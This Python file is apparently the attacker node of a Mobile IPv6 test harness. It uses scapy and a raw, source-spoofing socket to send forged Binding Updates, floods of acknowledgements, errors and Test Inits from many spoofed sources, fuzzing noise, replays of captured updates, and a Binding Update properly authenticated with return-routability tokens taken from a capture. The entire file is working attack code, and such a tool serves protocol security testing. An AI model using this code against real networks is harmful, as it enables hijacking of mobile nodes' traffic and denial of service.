"""An attacker inside the network: crafts with scapy what each line of its input asks for.

Run by itself on a node; each line is a JSON object, and is answered by one when it is done.
"""

from __future__ import annotations

import hashlib
import hmac
import json
import random
import socket
import struct
import sys
from collections.abc import Iterator
from ipaddress import IPv6Address
from pathlib import Path
from typing import Any

from scapy.layers.inet6 import (
    HAO,
    MIP6MH_BA,
    MIP6MH_BE,
    MIP6MH_BRR,
    MIP6MH_BU,
    ICMPv6EchoRequest,
    IPv6,
    IPv6ExtHdrDestOpt,
    IPv6ExtHdrRouting,
    MIP6MH_CoT,
    MIP6MH_HoT,
    MIP6MH_HoTI,
    MIP6OptAltCoA,
    MIP6OptMsgAuth,
    MIP6OptUnknown,
    in6_chksum,
)
from scapy.utils import PcapNgReader

MOBILITY, ICMPV6, IPV6_IN_IPV6 = 135, 58, 41
HOME_TEST, CARE_OF_TEST = 3, 4
NONCE_INDICES, AUTHORIZATION = 4, 5
DHOA_REQUEST = 166
FREEBIND = 78  # IPV6_FREEBIND of linux/in6.h


def framed(order: dict[str, Any], payload: Any) -> bytes:
    """``payload`` with the headers that ``order`` asks for."""
    packet = IPv6(src=order["source"], dst=order["destination"])
    if "home" in order:
        packet /= IPv6ExtHdrDestOpt(options=[HAO(hoa=order["home"])])
    if "route_to" in order:
        packet /= IPv6ExtHdrRouting(type=2, addresses=[order["route_to"]])
    packet /= payload
    if "outer" in order:
        source, destination = order["outer"]
        packet = IPv6(src=source, dst=destination, nh=IPV6_IN_IPV6) / packet
    return bytes(packet)


def update(order: dict[str, Any]) -> list[bytes]:
    """A Binding Update, with an authenticator of no key if ``forged``."""
    options: list[Any] = []
    if "care_of" in order:
        options.append(MIP6OptAltCoA(acoa=order["care_of"]))
    if order.get("forged"):
        options.append(MIP6OptMsgAuth(mspi=1000, authdata=random.randbytes(12)))
    made = MIP6MH_BU(
        seq=order.get("sequence", 1),
        flags=order.get("flags", "AH"),
        mhtime=order.get("lifetime", 15),
        options=options,
    )
    return [framed(order, made)]


def acknowledgement(order: dict[str, Any]) -> list[bytes]:
    """A Binding Acknowledgement of each sequence number that ``sequences`` spans."""
    about = {"status": order["status"], "flags": "", "mhtime": order["lifetime"]}
    return [
        framed(order, MIP6MH_BA(seq=sequence & 0xFFFF, **about))
        for sequence in range(*order["sequences"])
    ]


def error(order: dict[str, Any]) -> list[bytes]:
    made = MIP6MH_BE(status=order["status"], ha=order["home_address"])
    return [framed(order, made)] * order.get("count", 1)


def refresh(order: dict[str, Any]) -> list[bytes]:
    return [framed(order, MIP6MH_BRR())] * order.get("count", 1)


def test(order: dict[str, Any]) -> list[bytes]:
    """A Home Test or a Care-of Test of tokens that nobody has made."""
    kind = {"home": MIP6MH_HoT, "care-of": MIP6MH_CoT}[order["kind"]]
    made = kind(index=7, cookie=random.randbytes(8), token=random.randbytes(8))
    return [framed(order, made)]


def test_init(order: dict[str, Any]) -> list[bytes]:
    """Home Test Inits, or Care-of Test Inits, from one source or from as many as ``count``."""
    code = {"home": 1, "care-of": 2}[order["kind"]]
    return [
        framed({**order, "source": source}, MIP6MH_HoTI(mhtype=code, cookie=random.randbytes(8)))
        for source in sources(order)
    ]


def echo(order: dict[str, Any]) -> list[bytes]:
    """Data: echo requests that ``identifier`` tells from all others."""
    made = ICMPv6EchoRequest(id=order["identifier"], data=b"attacker")
    return [framed(order, made)] * order.get("count", 1)


def address_requests(order: dict[str, Any]) -> list[bytes]:
    """DHoA Requests, from one source or from as many as ``count``."""
    made = []
    for source in sources(order):
        header = IPv6(src=source, dst=order["destination"], nh=ICMPV6)
        made.append(summed(header, bytes([DHOA_REQUEST, 0]), bytes(4)))
    return made


def noise(order: dict[str, Any]) -> list[bytes]:
    """Octets that are no Mobility Header, half of them with the right checksum.

    With ``types`` they are messages of ICMPv6 of these types, all with the right checksum.
    """
    chance = random.Random(order["seed"])
    make = _icmpv6_noise if "types" in order else _mobility_noise
    return [make(order, chance) for _ in range(order["count"])]


def _mobility_noise(order: dict[str, Any], chance: random.Random) -> bytes:
    octets = bytearray(chance.randbytes(chance.choice((1, 4, 8, 16, 40, 200))))
    header = IPv6(src=order["source"], dst=order["destination"], nh=MOBILITY)
    if len(octets) >= 8 and chance.random() < 0.5:
        octets[1] = len(octets) // 8 - 1
        octets[2] %= 24
        octets[4:6] = bytes(2)
        octets[4:6] = struct.pack("!H", in6_chksum(MOBILITY, header, bytes(octets)))
    return bytes(header / bytes(octets))


def _icmpv6_noise(order: dict[str, Any], chance: random.Random) -> bytes:
    body = chance.randbytes(chance.choice((0, 1, 4, 12, 20, 33, 200)))
    header = IPv6(src=order["source"], dst=order["destination"], nh=ICMPV6)
    return summed(header, bytes([chance.choice(order["types"]), 0]), body)


def summed(header: IPv6, first: bytes, body: bytes) -> bytes:
    """A message of ICMPv6, its type and code in ``first``, with its checksum."""
    checksum = in6_chksum(ICMPV6, header, first + bytes(2) + body)
    return bytes(header / (first + struct.pack("!H", checksum) + body))


def replay(order: dict[str, Any]) -> list[bytes]:
    """The updates that a capture has from one of ``senders`` to ``to``, as they were."""
    return [
        bytes(packet)
        for packet in captured(order["capture"])
        if MIP6MH_BU in packet and packet.dst == order["to"] and packet.src in order["senders"]
    ]


def stolen(order: dict[str, Any]) -> list[bytes]:
    """A Binding Update to a correspondent, proved by the last tokens that a capture has.

    They are those of ``home_test`` and ``care_of_test``, whoever they were for (RFC 6275 §5.2.5).
    """
    tokens: dict[str, Any] = {}
    for packet in captured(order["capture"]):
        for layer in (MIP6MH_HoT, MIP6MH_CoT):
            if layer in packet:
                inner = packet[IPv6] if packet.nh != IPV6_IN_IPV6 else packet.payload
                tokens[inner.dst] = packet[layer]
    if not {order["home_test"], order["care_of_test"]} <= tokens.keys():
        return []
    home, care_of = tokens[order["home_test"]], tokens[order["care_of_test"]]
    key = hashlib.sha1(home.token + care_of.token).digest()
    return [framed(order, _proved(order, key, home.index, care_of.index))]


def _proved(order: dict[str, Any], key: bytes, home: int, care_of: int) -> bytes:
    """RFC 6275 §5.2.6, §6.2.7; scapy gives two of these options a wrong length."""
    indices = MIP6OptUnknown(otype=NONCE_INDICES, odata=struct.pack("!HH", home, care_of))
    blank = MIP6OptUnknown(otype=AUTHORIZATION, odata=bytes(12))
    made = MIP6MH_BU(
        seq=order["sequence"], flags="A", mhtime=15, cksum=0, autopad=0, options=[indices, blank]
    )
    octets = bytes(made)
    ends = IPv6Address(order["source"]).packed + IPv6Address(order["destination"]).packed
    covered = ends + octets[:4] + bytes(2) + octets[6:-12]
    octets = octets[:4] + bytes(2) + octets[6:-12] + hmac.digest(key, covered, "sha1")[:12]
    header = IPv6(src=order["home"], dst=order["destination"], nh=MOBILITY)
    return _numbered(octets, in6_chksum(MOBILITY, header, octets))


def _numbered(octets: bytes, checksum: int) -> MIP6MH_BU:
    return MIP6MH_BU(octets[:4] + struct.pack("!H", checksum) + octets[6:])


def sources(order: dict[str, Any]) -> Iterator[str]:
    """``count`` times the source, or as many addresses of the prefix ``sources``."""
    for number in range(order.get("count", 1)):
        if "sources" in order:
            yield str(IPv6Address(order["sources"]) + 0x1000 + number)
        else:
            yield order["source"]


def captured(file: str) -> Iterator[IPv6]:
    for packet in PcapNgReader(file):
        if IPv6 in packet:
            yield packet[IPv6]


ATTACKS = {
    "update": update,
    "acknowledgement": acknowledgement,
    "error": error,
    "refresh": refresh,
    "test": test,
    "test_init": test_init,
    "echo": echo,
    "address_requests": address_requests,
    "noise": noise,
    "replay": replay,
    "stolen": stolen,
}


def main() -> None:
    raw = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_RAW)
    raw.setsockopt(socket.IPPROTO_IPV6, FREEBIND, 1)
    print(json.dumps({"ready": Path(sys.argv[0]).name}), flush=True)
    for line in sys.stdin:
        order = json.loads(line)
        packets = ATTACKS[order.pop("do")](order)
        for octets in packets:
            source, destination = (
                socket.inet_ntop(socket.AF_INET6, octets[at : at + 16]) for at in (8, 24)
            )
            raw.bind((source, 0))  # a mobile node's routes depend on it
            raw.sendto(octets, (destination, 0))
        print(json.dumps({"sent": len(packets)}), flush=True)


main()
